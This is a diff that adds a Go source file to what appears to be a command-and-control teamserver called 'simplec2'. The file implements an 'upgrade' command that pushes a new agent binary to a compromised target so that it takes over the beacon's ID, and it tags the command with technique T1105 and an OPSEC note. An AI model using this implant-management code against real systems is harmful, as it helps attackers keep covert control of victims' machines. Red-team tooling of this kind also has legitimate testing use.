@@ -0,0 +1,131 @@
+package commands
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+
+	"simplec2/teamserver/data"
+	"simplec2/teamserver/filecrypt"
+)
+
+// CommandIDUpgrade Upgrade 命令 ID (与 agent 保持一致)
+const CommandIDUpgrade uint32 = 17
+
+// UpgradeTaskArgs 定义 upgrade 任务的参数（Task.Arguments 中的 JSON）
+// Source 与 PayloadID 二选一：Source 为 uploads 目录中的文件，PayloadID 为 payload builder 构建的产物
+type UpgradeTaskArgs struct {
+	Source    string `json:"source"`
+	PayloadID string `json:"payload_id"`
+	Path      string `json:"path"`    // 可选: 新程序在目标上的落地路径
+	Replace   bool   `json:"replace"` // 是否替换当前可执行文件
+}
+
+// PayloadPathResolver 根据 payload ID 返回构建产物路径，由 main.go 注入
+type PayloadPathResolver func(payloadID string) (string, error)
+
+var payloadPathResolver PayloadPathResolver
+
+// SetPayloadPathResolver 设置 payload 路径解析器
+func SetPayloadPathResolver(resolver PayloadPathResolver) {
+	payloadPathResolver = resolver
+}
+
+// ParseUpgradeArgs 解析 upgrade 任务参数
+func ParseUpgradeArgs(arguments string) (*UpgradeTaskArgs, error) {
+	var args UpgradeTaskArgs
+	if err := json.Unmarshal([]byte(arguments), &args); err != nil {
+		return nil, fmt.Errorf("failed to parse upgrade arguments: %v", err)
+	}
+	if args.Source == "" && args.PayloadID == "" {
+		return nil, fmt.Errorf("upgrade requires either source or payload_id")
+	}
+	return &args, nil
+}
+
+// ResolveUpgradeSource 返回 upgrade 任务要下发的文件在服务器上的路径
+func ResolveUpgradeSource(arguments string) (string, error) {
+	args, err := ParseUpgradeArgs(arguments)
+	if err != nil {
+		return "", err
+	}
+	if args.PayloadID == "" {
+		return args.Source, nil
+	}
+	if payloadPathResolver == nil {
+		return "", fmt.Errorf("payload resolver not initialized")
+	}
+	return payloadPathResolver(args.PayloadID)
+}
+
+// UpgradeCommand 实现 upgrade 命令的转换器
+type UpgradeCommand struct{}
+
+func init() {
+	Register(&UpgradeCommand{})
+}
+
+func (c *UpgradeCommand) Name() string {
+	return "upgrade"
+}
+
+func (c *UpgradeCommand) CommandID() uint32 {
+	return CommandIDUpgrade
+}
+
+func (c *UpgradeCommand) Describe() CommandDescription {
+	return CommandDescription{
+		Summary:        "Replace the beacon with a new agent build that takes over its beacon ID",
+		ArgumentFormat: ArgumentFormatJSON,
+		Arguments: Schema{
+			"type": "object",
+			"properties": Schema{
+				"payload_id": Schema{"type": "string", "description": "Payload built by the payload builder, in exe format"},
+				"source":     Schema{"type": "string", "description": "File in the uploads directory of the TeamServer"},
+				"path":       Schema{"type": "string", "description": "Where the new binary is written on the target"},
+				"replace":    Schema{"type": "boolean", "description": "Replace the current executable"},
+			},
+			"oneOf":                []Schema{{"required": []string{"payload_id"}}, {"required": []string{"source"}}},
+			"additionalProperties": false,
+		},
+		OPSEC: "Writes a new executable to disk and starts it as a new process; the file is recorded as an artifact.",
+	}
+}
+
+func (c *UpgradeCommand) Techniques(task *data.Task) []string {
+	return []string{"T1105"}
+}
+
+func (c *UpgradeCommand) Convert(task *data.Task) ([]byte, error) {
+	args, err := ParseUpgradeArgs(task.Arguments)
+	if err != nil {
+		return nil, err
+	}
+	source, err := ResolveUpgradeSource(task.Arguments)
+	if err != nil {
+		return nil, err
+	}
+
+	file, err := filecrypt.Open(source)
+	if err != nil {
+		return nil, fmt.Errorf("failed to open upgrade binary %s: %v", source, err)
+	}
+	defer file.Close()
+
+	h := sha256.New()
+	size, err := io.Copy(h, file)
+	if err != nil {
+		return nil, fmt.Errorf("failed to hash upgrade binary: %v", err)
+	}
+
+	// beacon 端参数，与 agent 的 UpgradeArgs 保持一致
+	return json.Marshal(map[string]interface{}{
+		"file_size":  size,
+		"chunk_size": ChunkSize,
+		"sha256":     hex.EncodeToString(h.Sum(nil)),
+		"path":       args.Path,
+		"replace":    args.Replace,
+	})
+}